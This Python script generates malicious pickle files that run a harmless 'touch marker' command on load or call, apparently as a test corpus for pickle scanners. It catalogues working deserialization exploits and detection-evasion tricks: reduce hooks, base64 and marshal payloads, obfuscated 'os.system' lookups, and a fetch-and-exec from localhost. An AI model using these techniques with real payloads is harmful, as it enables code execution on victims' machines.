"""Writes pickles whose code acts when it is loaded or called: write-code-attacks.py DIRECTORY [prove].

Needs cloudpickle. The code touches a file `marker` in the current directory, or tries to connect to this machine, no more.
With `prove` each file is loaded, and its function called, in a child process, and what did not act is named.
"""

import sys, os, io, types, pickle, functools, collections
import cloudpickle, importlib, builtins, subprocess, base64

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)
M = "marker"
CMD = "touch " + M
C = {}


def case(when):
    def add(make):
        C[make.__name__] = (when, make)
        return make

    return add


class R:
    "reduces to what it is told"

    def __init__(self, *r):
        self.r = r

    def __reduce__(self):
        return self.r


@case("load")
def called_now():
    def f():
        import os

        os.system(CMD)

    return R(f, ())


@case("load")
def mapped():
    def f(x):
        __import__("os").system(x)

    return R(list, (R(map, (f, [CMD])),))


@case("load")
def setstate():
    class A:
        def __getstate__(self):
            return {"a": CMD}

        def __setstate__(self, s):
            import subprocess

            subprocess.call(s["a"], shell=True)

    return A()


@case("load")
def new():
    class A:
        def __new__(cls):
            import os

            os.system(CMD)
            return object.__new__(cls)

    a = object.__new__(A)
    return a


@case("load")
def key():
    class A:
        def __hash__(self):
            if getattr(self, "cmd", None):
                os.system(self.cmd)
            return 1

    a = A()
    d = {a: 1}
    a.cmd = CMD
    return d


@case("load")
def getattribute():
    class A:
        def __getattr__(self, n):
            import os

            os.system("touch marker")
            raise AttributeError(n)

    a = object.__new__(A)
    a.x = 1
    return a


@case("load")
def reducer():
    class A:
        def __init__(self, c):
            os.popen(c).read()

    return R(A, (CMD,))


@case("load")
def metaclass():
    class M_(type):
        def __init__(cls, *a, **k):
            super().__init__(*a)
            os.system(CMD)

    return R(M_, ("B", (), {}))


@case("load")
def initsub():
    class A:
        def __init_subclass__(cls):
            os.system("touch marker")

    return R(type, ("B", (A,), {}))


@case("load")
def factory():
    def f():
        return os.system(CMD)

    d = collections.defaultdict(f)
    import operator

    return R(operator.getitem, (d, "x"))


@case("load")
def partialcall():
    def f(x):
        return os.system(x)

    return R(functools.partial(f, CMD), ())


@case("call")
def plain():
    def f():
        os.system(CMD)

    return f


@case("call")
def fetch():
    def f():
        import urllib.request

        exec(urllib.request.urlopen("http://127.0.0.1:1/").read())

    return f


@case("call")
def inner():
    def f():
        def g():
            def h():
                return eval("__import__('os').system('touch marker')")

            return h()

        return g()

    return f


@case("call")
def decoded():
    c = base64.b64encode(b"import os; os.system('touch marker')")

    def f():
        exec(base64.b64decode(c))

    return f


@case("call")
def ladder():
    def f():
        b = getattr(builtins, "ev" + "al")
        return b("__import__('o'+'s').system('touch marker')")

    return f


@case("call")
def ladder2():
    def f():
        x = ().__class__.__base__.__subclasses__()
        for c in x:
            if c.__name__ == "_wrap_close":
                return c.__init__.__globals__["system"](CMD)

    return f


@case("call")
def closure_():
    s = os.system

    def f():
        return s(CMD)

    return f


@case("call")
def default():
    def f(s=os.system, c=CMD):
        return s(c)

    return f


@case("call")
def kwdefault():
    def f(*, s=subprocess.getoutput, c=CMD):
        return s(c)

    return f


@case("call")
def globals_():
    def f():
        return glob("touch marker")

    g = types.FunctionType(f.__code__, {"glob": os.system, "__name__": "x"})
    return g


@case("call")
def sysmod():
    def f():
        return sys.modules["os"].system(CMD)

    return f


@case("call")
def npos():
    import numpy as np

    def f():
        return np.f2py.os.system(CMD) if hasattr(np, "f2py") else __import__("numpy").f2py.os.system(CMD)

    return f


@case("call")
def writes():
    def f():
        open("marker", "a").close()
        with open("/tmp/marker", "w") as h:
            h.write("x")

    return f


@case("call")
def sock():
    def f():
        import socket

        s = socket.socket()
        try:
            s.connect(("127.0.0.1", 1))
        except OSError:
            open("marker", "w")

    return f


@case("call")
def ct():
    def f():
        import ctypes

        ctypes.CDLL(None).system(CMD.encode())

    return f


@case("call")
def marsh():
    import marshal

    b = marshal.dumps(compile("import os; os.system('touch marker')", "x", "exec"))

    def f():
        exec(marshal.loads(b))

    return f


@case("call")
def ftype():
    def f():
        import types, marshal

        return types.FunctionType(marshal.loads(B), globals())()

    import marshal

    globals()["B"] = marshal.dumps(compile("import os; os.system('touch marker')", "x", "exec"))
    return f


@case("call")
def imp():
    def f():
        return importlib.import_module("o" + "s").system(CMD)

    return f


@case("call")
def strings():
    def f():
        n = "".join(chr(c) for c in [111, 115])
        return getattr(__import__(n), "metsys"[::-1])(CMD)

    return f


@case("call")
def predict():
    class Model:
        def predict(self, context, x):
            return subprocess.run(CMD, shell=True)

    m = Model()
    f = functools.partial(m.predict, None, None)
    return f


@case("call")
def stated():
    class Model:
        def predict(self):
            return getattr(self.m, self.n)(self.c)

    m = Model()
    m.m = os
    m.n = "system"
    m.c = CMD
    return functools.partial(m.predict)


@case("call")
def lam():
    return lambda: (lambda: os.system(CMD))()


@case("call")
def gen_():
    def g():
        yield os.system(CMD)

    def f():
        return list(g())

    return f


@case("call")
def timeit_():
    def f():
        import timeit

        return timeit.timeit("__import__('os').system('touch marker')", number=1)

    return f


@case("call")
def pdb_():
    def f():
        import cProfile

        return cProfile.run("__import__('os').system('touch marker')")

    return f


@case("call")
def handed():
    def f():
        return functools.reduce(getattr, ["system"], os)(CMD)

    return f


@case("call")
def aliased():
    def f():
        o = os
        p = [o]
        return p[0].system(CMD)

    return f


@case("call")
def spread():
    def f():
        a = (os.system, CMD)
        return (lambda s, c: s(c))(*a)

    return f


@case("call")
def pick():
    def f():
        import pickle

        return pickle.loads(b"cos\nsystem\n(S'touch marker'\ntR.")

    return f


@case("call")
def asy():
    def f():
        import asyncio

        async def m():
            p = await asyncio.create_subprocess_shell(CMD)
            await p.wait()

        asyncio.run(m())

    return f


@case("call")
def prop():
    class A:
        @property
        def x(self):
            return os.system(CMD)

    return functools.partial(getattr, A(), "x")


@case("call")
def deco():
    def d(f):
        @functools.wraps(f)
        def w(*a):
            os.system(CMD)
            return f(*a)

        return w

    return d(lambda: 1)


@case("call")
def exc():
    def f():
        try:
            1 / 0
        except ZeroDivisionError:
            os.system(CMD)
        finally:
            pass

    return f


@case("call")
def comp():
    def f():
        return [g(CMD) for g in [os.system]]

    return f


@case("call")
def match_():
    def f():
        return {"a": os.popen}["a"](CMD).read()

    return f


@case("call")
def clsbody():
    def f():
        class A:
            import os

            os.system("touch marker")

        return A

    return f


@case("call")
def anno():
    def f(x: "int" = None):
        return f.__annotations__["r"](CMD)

    f.__annotations__ = {"r": os.system}
    return f


@case("call")
def attr():
    def f():
        return f.s(CMD)

    f.s = os.system
    return f


@case("call")
def codeset():
    def g():
        return __import__("os").system("touch marker")

    c = g.__code__

    def f():
        def h():
            pass

        h.__code__ = c
        return h()

    return f


sys.modules["__main__"].__dict__.pop("B", None)
for name, (when, make) in C.items():
    path = os.path.join(OUT, name + ".pkl")
    try:
        data = cloudpickle.dumps(make())
    except Exception as e:
        print("skip", name, type(e).__name__, e)
        continue
    open(path, "wb").write(data)
    if sys.argv[2:] == ["prove"]:
        if os.path.exists(M):
            os.remove(M)
        run = "import pickle,sys\no=pickle.load(open(%r,'rb'))\n%s" % (path, "o()" if when == "call" else "")
        p = subprocess.run([sys.executable, "-c", run], capture_output=True, timeout=20)
        acted = os.path.exists(M)
        if not acted:
            print("NOT PROVEN", name, p.stderr[-150:])
        if acted:
            os.remove(M)
